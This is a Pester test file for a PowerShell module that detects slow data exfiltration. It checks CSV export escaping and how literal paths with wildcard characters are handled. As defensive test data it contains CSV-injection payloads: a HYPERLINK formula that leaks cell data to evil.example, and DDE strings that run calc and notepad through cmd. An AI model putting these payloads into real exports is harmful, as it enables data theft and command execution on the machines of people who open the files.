# The security review's tests that run through the module (SECURITY.md at the repository root lists every threat
# and where its test is): CSV (formula) injection through Export-LowSlowExfilCsv, paths with wildcard characters
# taken literally for every file the module writes, and a hostile user name carried faithfully in the pipeline.

BeforeAll {
    . (Join-Path $PSScriptRoot 'TestHelpers.ps1')
    Import-Module $ModuleManifest -Force

    $End = New-UtcDate 2026 11 1
    $MB = 1048576
    # User names an attacker can put into proxy logs (the rule lower-cases them).
    $Formula = '=hyperlink("https://evil.example/?"&a1,"open")'
    $Dde = "@sum(1+1)*cmd|' /c calc'!a0"
    $Plus = '+cmd|'' /c notepad''!a0'
    $Dir = Join-Path $TestDrive 'logs[1]'
    New-Item -ItemType Directory -Path $Dir | Out-Null
    $rows = @(
        New-DailyZiaRows -User $Formula -Start (New-UtcDate 2026 10 4) -Days 25 -Bytes (3 * $MB) -HostName 'drive.google.com'
        New-DailyZiaRows -User $Dde -Start (New-UtcDate 2026 10 10) -Days 2 -Bytes $MB
        New-DailyZiaRows -User $Plus -Start (New-UtcDate 2026 10 12) -Days 1 -Bytes $MB
        New-DailyZiaRows -User 'alice@contoso.com' -Start (New-UtcDate 2026 10 12) -Days 1 -Bytes $MB
    )
    $Csv = Join-Path $Dir 'zia[1].csv'
    New-ZiaCsv -Path $Csv -Rows $rows | Out-Null
    $All = @(Find-LowSlowExfil -LiteralPath $Csv -EndTime $End -IncludeAll)
}

Describe 'CSV injection: Export-LowSlowExfilCsv' {
    It 'keeps the hostile user names exactly as the logs had them in the pipeline' {
        ($All.UserName | Sort-Object) -join "`n" | Should -Be ((@($Plus, $Formula, $Dde, 'alice@contoso.com') | Sort-Object) -join "`n")
        ($All | Where-Object UserName -EQ $Formula).Reasons | Should -Match 'Persistence'
    }

    It 'writes formula-like cells with a leading single quote, numbers and plain text as they are' {
        $path = Join-Path $TestDrive 'candidates.csv'
        $All | Export-LowSlowExfilCsv -Path $path
        $rows = Import-Csv -LiteralPath $path
        $rows.Count | Should -Be 4
        ($rows.UserName | Sort-Object) -join "`n" | Should -Be ((@("'$Plus", "'$Formula", "'$Dde", 'alice@contoso.com') | Sort-Object) -join "`n")
        # No cell of the file starts a formula; a negative Zscore is still a number.
        foreach ($r in $rows) { foreach ($p in $r.PSObject.Properties) { $p.Value | Should -Not -Match '^[=+@\t\r]' } }
        ($rows | Where-Object { [double]$_.Zscore -lt 0 }).Count | Should -BeGreaterThan 0
        ($rows | Where-Object { $_.Zscore -like "'*" }) | Should -BeNullOrEmpty
        # The alert text carries the name inside, not at the start: it stays as it is.
        ($rows | Where-Object UserName -EQ "'$Formula").AlertDisplayName | Should -BeLike "Low & Slow Exfil Candidate - $Formula (z=*"
        # The same header as Export-Csv, and a UTF-8 byte order mark for Excel.
        $header = (Get-Content -LiteralPath $path -TotalCount 1).TrimStart([char]0xFEFF)
        $header | Should -Be (($All | ConvertTo-Csv -NoTypeInformation | Select-Object -First 1))
        [System.IO.File]::ReadAllBytes($path)[0..2] -join ',' | Should -Be '239,187,191'
    }

    It 'writes the cells as they are with -Raw' {
        $path = Join-Path $TestDrive 'raw.csv'
        $All | Export-LowSlowExfilCsv -Path $path -Raw
        ((Import-Csv -LiteralPath $path).UserName | Sort-Object) -join "`n" | Should -Be ((@($Plus, $Formula, $Dde, 'alice@contoso.com') | Sort-Object) -join "`n")
    }

    It 'takes profiles and their rows too, and says how many cells it quoted' {
        $path = Join-Path $TestDrive 'daily.csv'
        Get-ZiaUploadProfile -LiteralPath $Csv -EndTime $End -Daily | Export-LowSlowExfilCsv -Path $path -Verbose 4>&1 |
            Out-String | Should -Match 'formula-like cell\(s\) prefixed'
        (Import-Csv -LiteralPath $path | Where-Object UserName -Like "'=*").Count | Should -Be 25
    }

    It 'refuses to replace a file with -NoClobber and writes nothing with -WhatIf' {
        $path = Join-Path $TestDrive 'once.csv'
        $All | Export-LowSlowExfilCsv -Path $path
        { $All | Export-LowSlowExfilCsv -Path $path -NoClobber -ErrorAction Stop } | Should -Throw -ErrorId 'NoClobber,LowSlowExfil.Commands.ExportLowSlowExfilCsvCommand'
        $other = Join-Path $TestDrive 'whatif.csv'
        $All | Export-LowSlowExfilCsv -Path $other -WhatIf
        Test-Path -LiteralPath $other | Should -BeFalse
    }
}

Describe 'Paths with wildcard characters' {
    It 'reads them with -LiteralPath and refuses them as wildcards with -Path' {
        Get-ZiaUploadProfile -Path $Csv -EndTime $End -ErrorVariable e -ErrorAction SilentlyContinue -WarningAction SilentlyContinue | Should -BeNullOrEmpty
        $e[0].FullyQualifiedErrorId | Should -BeLike 'PathNotFound,*'
        @(Get-ZiaUploadProfile -LiteralPath $Csv -EndTime $End).Count | Should -Be 4
    }

    It 'writes every output file at the literal path given, brackets and all' {
        $report = Join-Path $Dir 'report[a-z].html'
        $csvOut = Join-Path $Dir 'out[1].csv'
        $state = Join-Path $Dir 'state[1].json'
        $All | Export-LowSlowExfilReport -Path $report
        $All | Export-LowSlowExfilCsv -Path $csvOut
        Find-LowSlowExfil -LiteralPath $Csv -EndTime $End -StatePath $state | Out-Null
        foreach ($p in $report, $csvOut, $state) { Test-Path -LiteralPath $p | Should -BeTrue -Because $p }
        # Nothing was written anywhere else (no file matched by the brackets as a pattern). Off Windows the state's
        # (released) lock file stays beside it, under the same literal name.
        $expected = @('out[1].csv', 'report[a-z].html', 'state[1].json', 'zia[1].csv') + @(if (-not $IsWindows) { 'state[1].json.lock' })
        (Get-ChildItem -LiteralPath $Dir -Force).Name | Sort-Object | Should -Be ($expected | Sort-Object)
    }
}
